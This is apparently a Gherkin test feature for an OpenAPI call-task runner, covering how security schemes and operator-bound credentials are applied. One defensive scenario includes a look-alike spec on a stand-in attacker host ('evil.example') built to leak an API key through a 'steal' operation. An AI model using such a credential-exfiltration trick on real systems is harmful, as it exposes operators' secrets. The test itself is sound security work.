@http
Feature: call tasks, security from the OpenAPI document
  An OpenAPI call may name one of the document's security schemes instead of spelling out its
  authentication, and a call without authentication gets its operation's security requirement
  applied. The document says how a secret is sent; the secret comes from the task or from the
  operator's credentials file, where each credential is bound to the documents, hosts and tenants
  it may be sent for. Documents and tasks are untrusted: a credential never goes anywhere else.

  Background:
    Given the API "http://things.example" serves "/openapi.yaml" as "application/yaml":
      """
      openapi: 3.0.3
      info: {title: Things, version: '1'}
      servers: [{url: 'http://things.example/v1'}]
      security: [{thingKey: []}]
      components:
        securitySchemes:
          thingKey: {type: apiKey, in: header, name: X-Thing-Key}
          thingBearer: {type: http, scheme: bearer}
          thingLogin: {type: openIdConnect, openIdConnectUrl: 'http://things.example/.well-known/openid-configuration'}
      paths:
        /things/{id}:
          get:
            operationId: getThing
            parameters: [{name: id, in: path, required: true, schema: {type: integer}}]
            responses: {'200': {description: the thing}}
        /me:
          get:
            operationId: whoAmI
            security: [{thingLogin: []}]
            responses: {'200': {description: you}}
      """
    And the operator's credentials file:
      """
      credentials:
        - scheme: thingKey
          document: http://things.example/openapi.yaml
          allow_http: true
          api_key_env: THINGS_KEY
      """
    And the setting THINGS_KEY is "k3y-from-the-operator"

  Rule: a call without authentication gets its operation's requirement from the operator's credentials

    Scenario: the document's global API key requirement
      Given the API "http://things.example" answers GET "/v1/things/7" with status 200 and body '{"id": 7}'
      And the call task "getThing" with:
        """
        {"call_type": "openapi", "document": {"endpoint": "http://things.example/openapi.yaml"}, "operation_id": "getThing", "parameters": {"id": 7}}
        """
      When the call task runs
      Then the task should succeed
      And the request header "X-Thing-Key" should be "k3y-from-the-operator"
      And nothing published should contain "k3y-from-the-operator"

  Rule: a task may name a scheme, with its own secret or the operator's

    Scenario: the task's own bearer token, sent as the document's scheme says
      Given the API "http://things.example" answers GET "/v1/things/7" with status 200 and body '{"id": 7}'
      And the call task "getThing" with:
        """
        {"call": "openapi", "with": {"document": {"endpoint": "http://things.example/openapi.yaml"}, "operationId": "getThing",
         "parameters": {"id": 7}, "authentication": {"use": "thingBearer", "secret": "t0ken-of-the-task"}}}
        """
      When the call task runs
      Then the task should succeed
      And the request header "Authorization" should be "Bearer t0ken-of-the-task"
      And the request should have no header "X-Thing-Key"
      And nothing published should contain "t0ken-of-the-task"

    Scenario Outline: what cannot be applied is a clear configuration error, sent nowhere
      Given the call task "<operation>" with:
        """
        {"call_type": "openapi", "document": {"endpoint": "http://things.example/openapi.yaml"}, "operation_id": "<operation>",
         "parameters": {"id": 7}, "authentication": <authentication>}
        """
      When the call task runs
      Then the task should fail with error "OpenAPI operation failed: failed to apply authentication: <error>"
      And the error should be of type "configuration" with status 400
      And the error code should be "<code>"
      And the API should have received 1 request

      Examples:
        | operation | authentication        | code                        | error                                                                                                                                           |
        | getThing  | {"use": "thingKee"}   | SECURITY_SCHEME_NOT_FOUND   | security scheme 'thingKee' is not defined by the document (defined: thingKey, thingBearer, thingLogin)                                          |
        | getThing  | {"use": "thingBearer"} | CREDENTIAL_MISSING         | no credential is configured for security scheme 'thingBearer' (for this tenant and document): give it in the task's authentication or in CALL_CREDENTIALS_FILE |
        | whoAmI    | {"use": "thingLogin"} | SECURITY_SCHEME_UNSUPPORTED | security scheme 'thingLogin' is openIdConnect: OpenID Connect discovery is not supported; give the authentication in the task (oauth2 with a token URL) instead |

  Rule: an operator's credential goes only where the operator bound it

    Scenario: a look-alike document on another host naming the same scheme gets nothing
      Given the API "http://evil.example" serves "/openapi.yaml" as "application/yaml":
        """
        openapi: 3.0.3
        info: {title: Things, version: '1'}
        servers: [{url: 'http://evil.example'}]
        components:
          securitySchemes:
            thingKey: {type: apiKey, in: query, name: leak}
        paths:
          /steal: {get: {operationId: steal, security: [{thingKey: []}], responses: {'200': {description: ok}}}}
        """
      And the call task "steal" with:
        """
        {"call_type": "openapi", "document": {"endpoint": "http://evil.example/openapi.yaml"}, "operation_id": "steal", "authentication": {"use": "thingKey"}}
        """
      When the call task runs
      Then the task should fail with an error containing "no credential is configured for security scheme 'thingKey'"
      And the error code should be "CREDENTIAL_MISSING"
      And the API should have received 1 request
      And nothing published should contain "k3y-from-the-operator"
